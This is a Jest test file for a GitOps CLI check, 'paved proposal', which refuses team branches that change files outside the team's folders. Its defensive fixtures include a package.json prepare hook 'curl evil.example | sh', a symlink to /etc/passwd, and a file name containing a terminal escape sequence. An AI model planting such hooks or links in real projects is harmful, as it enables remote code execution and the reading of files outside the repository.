/**
 * `paved proposal` on real Git repositories: a platform repository with a
 * `main` and team branches `apps/<team>`, as the team repository's CI pushes
 * them, and main moving on while they are open.
 */
import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as path from 'path';
import { proposalCommand, proposalScope } from '../../../lib/cli/proposal-command';
import { ORG_PROPS } from '../../util';
import { parse } from 'yaml';
import { ROOT, cleanTmpDirs, paved, tmpDir, writeFiles } from '../../cli-util';

afterAll(cleanTmpDirs);

const git = (dir: string, ...args: string[]) => execFileSync('git', ['-c', 'user.name=t', '-c', 'user.email=t@example.com', '-c', 'commit.gpgsign=false', ...args], { cwd: dir, encoding: 'utf8' });
const commit = (dir: string, message: string) => {
  git(dir, 'add', '-A');
  git(dir, 'commit', '-q', '--allow-empty', '-m', message);
};

/** A platform repository on main: its package, the org published in the tree, two teams' apps. */
function platformRepo(withOrg = true): string {
  const dir = tmpDir('paved-proposal-');
  git(dir, 'init', '-q', '-b', 'main');
  writeFiles(dir, {
    'package.json': '{"name":"platform","paved":{"out":"gitops"}}\n',
    'platform/org.ts': '// the org\n',
    'gitops/CATALOG.md': '# Service catalog\n',
    'gitops/catalog/location.yaml': 'kind: Location\n',
    'gitops/catalog/teams/mobile/group-mobile.yaml': 'kind: Group\n',
    'gitops/catalog/teams/mobile/apps/bff/component-bff.yaml': 'kind: Component\n',
    'gitops/prod/teams/mobile/tenant/appproject-mobile.yaml': 'kind: AppProject\n',
    'gitops/prod/teams/mobile/apps/bff/application-bff.yaml': 'kind: Application\n',
    'gitops/staging/teams/mobile/apps/bff/application-bff.yaml': 'kind: Application\n',
    'gitops/prod/teams/payments/apps/checkout/application-checkout.yaml': 'kind: Application\n',
    'gitops/prod/platform/argocd/application-argocd.yaml': 'kind: Application\n',
    ...(withOrg ? { 'gitops/org.json': JSON.stringify(ORG_PROPS) } : {}),
  });
  commit(dir, 'main');
  return dir;
}

/** Runs the command in-process: its exit code and what it printed. */
function run(dir: string, options: Record<string, string>) {
  let out = '';
  let err = '';
  const code = proposalCommand({ out: (t) => (out += t), err: (t) => (err += t), cwd: dir }, { team: 'mobile', base: 'main', ...options });
  return { code, out, err };
}
const refusedFiles = (out: string) =>
  out
    .split('\n')
    .filter((l) => l.startsWith('  ! '))
    .map((l) => l.slice(4).replace(/^\S+( changed)?\s+/, ''));

describe('a team branch that changes only the team’s folders', () => {
  test('passes, listing each file it adds, changes and deletes, in every environment and the catalog', () => {
    const dir = platformRepo();
    git(dir, 'checkout', '-q', '-b', 'apps/mobile');
    writeFiles(dir, {
      'gitops/prod/teams/mobile/apps/push/application-push.yaml': 'kind: Application\n',
      'gitops/staging/teams/mobile/apps/bff/application-bff.yaml': 'kind: Application # v2\n',
      'gitops/catalog/teams/mobile/apps/push/component-push.yaml': 'kind: Component\n',
      'gitops/catalog/teams/mobile/apps/location.yaml': 'kind: Location\n',
    });
    fs.rmSync(path.join(dir, 'gitops/prod/teams/mobile/apps/bff/application-bff.yaml'));
    fs.chmodSync(path.join(dir, 'gitops/catalog/teams/mobile/apps/bff/component-bff.yaml'), 0o755);
    commit(dir, 'mobile: push');
    const r = run(dir, {});
    expect(r.code).toBe(0);
    expect(r.out).toMatch(/^paved proposal: team mobile, HEAD \([0-9a-f]{12}\) against its merge base with main \([0-9a-f]{12}\): 6 file\(s\) changed\n/);
    expect(r.out).toContain('    added        gitops/prod/teams/mobile/apps/push/application-push.yaml\n');
    expect(r.out).toContain('    deleted      gitops/prod/teams/mobile/apps/bff/application-bff.yaml\n');
    expect(r.out).toContain('    modified     gitops/staging/teams/mobile/apps/bff/application-bff.yaml\n');
    expect(r.out).toContain("every file is the team's: gitops/{staging,prod}/teams/mobile/apps/ and gitops/catalog/teams/mobile/apps/\n");
  });

  test('a branch behind main, or one that merged main in, is judged by its own changes only (the merge base)', () => {
    const dir = platformRepo();
    git(dir, 'checkout', '-q', '-b', 'apps/mobile');
    writeFiles(dir, { 'gitops/prod/teams/mobile/apps/push/application-push.yaml': 'kind: Application\n' });
    commit(dir, 'mobile: push');
    // main moves on: another team's app, a platform change
    git(dir, 'checkout', '-q', 'main');
    writeFiles(dir, { 'gitops/prod/teams/payments/apps/refunds/application-refunds.yaml': 'kind: Application\n', 'platform/org.ts': '// the org, v2\n' });
    commit(dir, 'payments: refunds');
    git(dir, 'checkout', '-q', 'apps/mobile');
    const behind = proposalScope(dir, { team: 'mobile', base: 'main', head: 'HEAD', tree: 'gitops' });
    expect(behind.files.map((f) => f.file)).toEqual(['gitops/prod/teams/mobile/apps/push/application-push.yaml']);
    git(dir, 'merge', '-q', '--no-edit', 'main');
    const merged = proposalScope(dir, { team: 'mobile', base: 'main', head: 'HEAD', tree: 'gitops' });
    expect(merged.files.map((f) => f.file)).toEqual(['gitops/prod/teams/mobile/apps/push/application-push.yaml']);
    expect(run(dir, {}).code).toBe(0);
  });

  test('reads the tree from the package’s paved.out, from a subfolder, and another head than HEAD', () => {
    const dir = platformRepo();
    git(dir, 'checkout', '-q', '-b', 'apps/mobile');
    writeFiles(dir, { 'gitops/prod/teams/mobile/apps/push/application-push.yaml': 'kind: Application\n' });
    commit(dir, 'mobile: push');
    git(dir, 'checkout', '-q', 'main');
    expect(run(dir, { head: 'apps/mobile' }).code).toBe(0);
    expect(run(dir, { head: 'apps/mobile', tree: 'gitops' }).code).toBe(0);
    expect(run(path.join(dir, 'gitops'), { head: 'apps/mobile', tree: '.' }).code).toBe(0);
    // the same branch judged as another team's: every file is outside
    expect(run(dir, { head: 'apps/mobile', team: 'payments' }).code).toBe(1);
  });
});

describe('refuses a team branch that changes anything else, naming each file', () => {
  test('refuses the platform’s files, another team’s, the team’s tenancy and the catalog’s index, exit 1', () => {
    const dir = platformRepo();
    git(dir, 'checkout', '-q', '-b', 'apps/mobile');
    const outside = [
      '.github/workflows/ci.yml',
      'package.json',
      'platform/org.ts',
      'gitops/CATALOG.md',
      'gitops/catalog/location.yaml',
      'gitops/catalog/teams/mobile/group-mobile.yaml',
      'gitops/catalog/teams/payments/apps/x/component-x.yaml',
      'gitops/prod/platform/argocd/application-argocd.yaml',
      'gitops/prod/teams/mobile/tenant/appproject-mobile.yaml',
      'gitops/prod/teams/mobile/appproject-extra.yaml',
      'gitops/prod/teams/payments/apps/checkout/application-checkout.yaml',
      'gitops/prod/teams/Mobile/apps/x/application-x.yaml',
      'gitops/prod/x/teams/mobile/apps/x.yaml',
      'apps/mobile/x.ts',
      'teams/mobile/apps/x.yaml',
    ];
    writeFiles(dir, { ...Object.fromEntries(outside.map((f) => [f, '{"name":"changed"}\n'])), 'gitops/prod/teams/mobile/apps/ok/application-ok.yaml': 'kind: Application\n' });
    commit(dir, 'mobile: and more');
    const r = run(dir, {});
    expect(r.code).toBe(1);
    expect(refusedFiles(r.out).sort()).toEqual(outside.map((f) => `${f}: outside team mobile's folders`).sort());
    expect(r.out).toContain("refused: 15 file(s) the team may not change; a team's branch changes only gitops/{staging,prod}/teams/mobile/apps/ and gitops/catalog/teams/mobile/apps/\n");
  });

  test('refuses deleting or moving the platform’s files (a move is a deletion and an addition)', () => {
    const dir = platformRepo();
    git(dir, 'checkout', '-q', '-b', 'apps/mobile');
    git(dir, 'mv', 'gitops/prod/teams/payments/apps/checkout/application-checkout.yaml', 'gitops/prod/teams/mobile/apps/checkout.yaml');
    git(dir, 'mv', 'gitops/prod/teams/mobile/apps/bff/application-bff.yaml', 'gitops/prod/teams/mobile/bff.yaml');
    fs.rmSync(path.join(dir, 'gitops/CATALOG.md'));
    commit(dir, 'moves');
    const r = run(dir, {});
    expect(r.code).toBe(1);
    expect(refusedFiles(r.out).sort()).toEqual([
      "gitops/CATALOG.md: outside team mobile's folders",
      "gitops/prod/teams/mobile/bff.yaml: outside team mobile's folders",
      "gitops/prod/teams/payments/apps/checkout/application-checkout.yaml: outside team mobile's folders",
    ]);
    expect(r.out).toContain('    added        gitops/prod/teams/mobile/apps/checkout.yaml\n');
  });

  test('refuses links and submodules, in the team’s folders too, and a team folder that is a link', () => {
    const dir = platformRepo();
    git(dir, 'checkout', '-q', '-b', 'apps/mobile');
    fs.symlinkSync('/etc/passwd', path.join(dir, 'gitops/prod/teams/mobile/apps/bff/token.yaml'));
    fs.symlinkSync('../../../..', path.join(dir, 'gitops/staging/teams/mobile/apps/up'));
    fs.rmSync(path.join(dir, 'gitops/catalog/teams/mobile/apps'), { recursive: true });
    fs.symlinkSync('../../../../platform', path.join(dir, 'gitops/catalog/teams/mobile/apps'));
    const sha = git(dir, 'rev-parse', 'HEAD').trim();
    git(dir, 'add', '-A');
    git(dir, 'update-index', '--add', '--cacheinfo', `160000,${sha},gitops/prod/teams/mobile/apps/sub`);
    git(dir, 'commit', '-q', '-m', 'links');
    const r = run(dir, {});
    expect(r.code).toBe(1);
    const link = 'a symbolic link: refused anywhere in a proposal (the compiler, the synth and the tests would follow it out of the repository)';
    expect(refusedFiles(r.out).sort()).toEqual(
      [
        `gitops/catalog/teams/mobile/apps: ${link}`,
        `gitops/prod/teams/mobile/apps/bff/token.yaml: ${link}`,
        'gitops/prod/teams/mobile/apps/sub: a Git submodule: refused anywhere in a proposal',
        `gitops/staging/teams/mobile/apps/up: ${link}`,
      ].sort(),
    );
  });

  test('refuses environments the org does not have, hidden files and names no synth writes, printing them escaped', () => {
    const dir = platformRepo();
    git(dir, 'checkout', '-q', '-b', 'apps/mobile');
    writeFiles(dir, {
      'gitops/dev/teams/mobile/apps/x/application-x.yaml': 'x\n',
      'gitops/prod/teams/mobile/apps/.argocd-source.yaml': 'x\n',
      'gitops/prod/teams/mobile/apps/bff/.gitattributes': '* merge=union\n',
      'gitops/prod/teams/mobile/apps/bff/\u001b[2J0 error(s).yaml': 'x\n',
      'gitops/prod/teams/mobile/apps/bff/a b.yaml': 'x\n',
    });
    commit(dir, 'odd names');
    const r = run(dir, {});
    expect(r.code).toBe(1);
    const name = 'a name the synth never writes: letters, digits, ".", "_" and "-" in each part, not starting with "."';
    expect(refusedFiles(r.out).sort()).toEqual(
      [
        'gitops/dev/teams/mobile/apps/x/application-x.yaml: "dev" is not an environment of the org (staging, prod) nor the catalog',
        `gitops/prod/teams/mobile/apps/.argocd-source.yaml: ${name}`,
        `gitops/prod/teams/mobile/apps/bff/.gitattributes: ${name}`,
        `"gitops/prod/teams/mobile/apps/bff/\\u001b[2J0 error(s).yaml": ${name}`,
        `"gitops/prod/teams/mobile/apps/bff/a b.yaml": ${name}`,
      ].sort(),
    );
    expect(r.out).not.toContain('\u001b');
  });

  test('without an org in the tree, any environment folder is the team’s', () => {
    const dir = platformRepo(false);
    git(dir, 'checkout', '-q', '-b', 'apps/mobile');
    writeFiles(dir, { 'gitops/dev/teams/mobile/apps/x/application-x.yaml': 'x\n' });
    commit(dir, 'dev');
    const r = run(dir, {});
    expect(r.code).toBe(0);
    expect(r.out).toContain("every file is the team's: gitops/<env>/teams/mobile/apps/ and gitops/catalog/teams/mobile/apps/\n");
  });
});

describe('branches that cannot be judged', () => {
  test('refuses a branch with no common history, or with several merge bases, exit 1', () => {
    const dir = platformRepo();
    git(dir, 'checkout', '-q', '--orphan', 'apps/mobile');
    commit(dir, 'unrelated');
    expect(run(dir, {})).toEqual({ code: 1, out: '', err: 'paved proposal: --head HEAD and --base main have no common history: propose from a branch of main\n' });

    // criss-cross: main merged the branch's first commit while the branch merged main's, so two commits are merge bases
    git(dir, 'checkout', '-q', 'main');
    git(dir, 'checkout', '-q', '-b', 'apps/search');
    writeFiles(dir, { 'gitops/prod/teams/search/apps/a.yaml': '1\n' });
    commit(dir, 'search 1');
    const s1 = git(dir, 'rev-parse', 'HEAD').trim();
    git(dir, 'checkout', '-q', 'main');
    writeFiles(dir, { 'platform/org.ts': '// 2\n' });
    commit(dir, 'main 1');
    const m1 = git(dir, 'rev-parse', 'HEAD').trim();
    git(dir, 'merge', '-q', '--no-edit', s1);
    git(dir, 'checkout', '-q', 'apps/search');
    git(dir, 'merge', '-q', '--no-edit', m1);
    expect(git(dir, 'merge-base', '--all', 'main', 'HEAD').trim().split('\n').sort()).toEqual([m1, s1].sort());
    const r = run(dir, { team: 'search' });
    expect(r.code).toBe(1);
    expect(r.err).toBe('paved proposal: --head HEAD has 2 merge bases with main (criss-cross merges): rebase the branch onto main, so that what it changes is one diff\n');
  });

  test('fails with exit 2 naming what cannot be read: a revision that does not exist, one that is an option, a folder outside any repository', () => {
    const dir = platformRepo();
    expect(run(dir, { base: 'origin/main' })).toMatchObject({
      code: 2,
      err: expect.stringMatching(/^paved proposal: --base origin\/main: no such commit in the repository \(in a shallow CI checkout fetch it first/),
    });
    expect(run(dir, { head: '--output=/tmp/x' })).toMatchObject({ code: 2, err: 'paved proposal: --head "--output=/tmp/x": not a revision\n' });
    const bare = tmpDir('paved-proposal-nogit-');
    expect(run(bare, { tree: 'gitops' })).toMatchObject({ code: 2, err: expect.stringMatching(/is not in a Git repository/) });
    expect(run(dir, { tree: '../elsewhere' })).toMatchObject({ code: 2, err: 'paved proposal: --tree ../elsewhere: not a folder of the repository\n' });
  });

  test('refuses a team name that is not one, exit 1', () => {
    const dir = platformRepo();
    for (const team of ['Mobile', 'mobile/../payments', '', '*'])
      expect(run(dir, { team })).toMatchObject({ code: 1, err: expect.stringMatching(/^paved proposal: --team .* is not allowed: the team's name \(an RFC 1123 label\)/) });
  });

  test('runs as `paved proposal`, which requires --team and --base', () => {
    const dir = platformRepo();
    git(dir, 'checkout', '-q', '-b', 'apps/mobile');
    writeFiles(dir, { 'package.json': '{"name":"platform","scripts":{"prepare":"curl evil.example | sh"}}\n' });
    commit(dir, 'mobile: scripts');
    const r = paved(['proposal', '--team', 'mobile', '--base', 'main'], dir);
    expect({ code: r.code, refused: refusedFiles(r.stdout) }).toEqual({ code: 1, refused: ["package.json: outside team mobile's folders"] });
    expect(paved(['proposal', '--team', 'mobile'], dir)).toMatchObject({ code: 2, stderr: expect.stringContaining("required option '--base <ref>' not specified") });
  });
});

describe('the platform’s CI', () => {
  const workflow = parse(fs.readFileSync(path.join(ROOT, 'docs', 'ci', 'platform-repo.yml'), 'utf8')) as { jobs: Record<string, { steps: { run?: string }[] }> };
  const runs = (job: string) => workflow.jobs[job].steps.map((s) => s.run ?? '');

  test('checks a team’s branch with paved proposal, after installing the platform’s own code and before taking or running anything of the branch', () => {
    const steps = runs('refresh-index');
    const check = steps.findIndex((r) => r.includes('npx paved proposal --team "$team" --base HEAD --head FETCH_HEAD'));
    expect(check).toBeGreaterThan(steps.findIndex((r) => /^npm ci\b/.test(r)));
    const script = steps[check];
    expect(script.indexOf('npx paved proposal')).toBeLessThan(script.indexOf('git checkout FETCH_HEAD'));
    expect(check).toBeLessThan(steps.findIndex((r) => r.includes('npm run synth')));
    // the rule lives in the command only
    expect(steps.join('\n')).not.toMatch(/grep -Ev|120000/);
  });

  test('comments a team branch’s diff scoped to the team', () => {
    expect(runs('verify').find((r) => r.includes('npx paved diff'))).toMatch(/case "\$HEAD_REF" in apps\/\*\) scope=\(--team "\$\{HEAD_REF#apps\/\}"\)/);
  });
});
